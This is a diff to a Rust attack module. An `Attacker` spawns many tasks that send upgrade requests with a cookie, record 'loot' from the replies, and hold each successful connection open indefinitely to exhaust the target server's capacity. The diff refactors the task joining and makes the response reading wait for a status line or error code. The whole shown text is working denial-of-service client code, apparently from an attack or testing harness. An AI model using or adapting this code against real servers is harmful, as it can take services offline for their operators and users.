@@ -35,9 +35,7 @@ pub(super) async fn attack(me: &Attacker) -> anyhow::Result<()> {
     for place in 0..DEAF {
         tasks.spawn(hold(me.clone(), upgrade(&places[place % places.len()], &cookie)));
     }
-    while let Some(ended) = tasks.join_next().await {
-        ended??;
-    }
+    tasks.join_all().await;
     Ok(())
 }
 
@@ -62,11 +60,11 @@ pub(super) fn upgrade(path: &str, cookie: &str) -> String {
 }
 
 /// Holds a connection of which nothing is read but the beginning of the answer.
-async fn hold(me: Attacker, request: String) -> anyhow::Result<()> {
+async fn hold(me: Attacker, request: String) {
     loop {
         if let Ok((stream, answer)) = open(&me, &request).await {
             me.loot.got(&words(&answer));
-            if answer.starts_with("HTTP/1.1 101") || answer.starts_with("HTTP/1.1 200") {
+            if is_open(&answer) {
                 me.loot.got("sockets and streams");
                 let _held = stream;
                 std::future::pending::<()>().await;
@@ -79,7 +77,18 @@ async fn hold(me: Attacker, request: String) -> anyhow::Result<()> {
 async fn open(me: &Attacker, request: &str) -> anyhow::Result<(TcpStream, String)> {
     let mut stream = bound(me.from, Some(ROOM))?.connect(me.address).await?;
     stream.write_all(request.as_bytes()).await?;
-    let mut answer = [0; 600];
-    let length = stream.read(&mut answer).await?;
-    Ok((stream, String::from_utf8_lossy(&answer[..length]).into_owned()))
+    let (mut answer, mut length) = ([0; 800], 0);
+    loop {
+        let n_read = stream.read(&mut answer[length..]).await?;
+        length += n_read;
+        // Of a refusal the code comes with the body.
+        let seen = String::from_utf8_lossy(&answer[..length]);
+        if n_read == 0 || is_open(&seen) || seen.contains("\"code\":") {
+            return Ok((stream, seen.into_owned()));
+        }
+    }
+}
+
+fn is_open(answer: &str) -> bool {
+    answer.starts_with("HTTP/1.1 101") || answer.starts_with("HTTP/1.1 200")
 }
